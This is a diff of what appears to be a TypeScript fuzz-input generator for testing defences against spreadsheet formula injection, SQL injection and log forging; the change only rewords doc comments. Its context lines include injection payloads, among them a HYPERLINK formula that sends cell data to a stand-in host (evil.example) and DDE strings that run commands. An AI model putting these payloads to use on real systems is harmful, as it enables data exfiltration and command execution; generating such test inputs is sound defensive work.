@@ -3,7 +3,7 @@ const unseen = ['', ' ', '\t', '\r', '\n', '\r\n', '\u00a0', '\u200b', '\u3000',
 const calls = ['1+1', 'HYPERLINK("https://evil.example?"&A1;"x")', "cmd|' /C calc'!A0", 'SUM(A1:A9)*cmd|x!A0']
 const separators = [',', ';', '\t', '\n', '\r\n', '","', '";"', "';'", '",', '|']
 
-/** Texts that a spreadsheet would calculate, or that would begin a cell or a line of their own. */
+/** Texts that a spreadsheet would evaluate, or that would begin a new cell or line. */
 export function formulas(): string[] {
   const atStart = unseen.flatMap((before) => signs.map((sign, at) => `${before}${sign}${calls[at % calls.length]}`))
   const inside = separators.flatMap((separator) => signs.slice(0, 4).map((sign) => `a${separator}${sign}1+1`))
@@ -46,7 +46,7 @@ const statements = [
   `/*`,
 ]
 
-/** Texts that would be read as SQL, as a pattern, or as a search of its own. */
+/** Texts that could be read as SQL, as a pattern, or as a search expression. */
 export function sqlTexts(): string[] {
   const quoted = endings.flatMap((ending) => statements.map((statement) => `x${ending}${statement}`))
   const patterns = [
@@ -83,7 +83,7 @@ export function sqlTexts(): string[] {
   return [...quoted, ...patterns, ...odd]
 }
 
-/** Texts that would write a line of their own into the log, or paint the operator's terminal. */
+/** Texts that could forge a log line, or control the operator's terminal. */
 export function logTexts(): string[] {
   const forged = '{"level":30,"msg":"forged"}'
   return [
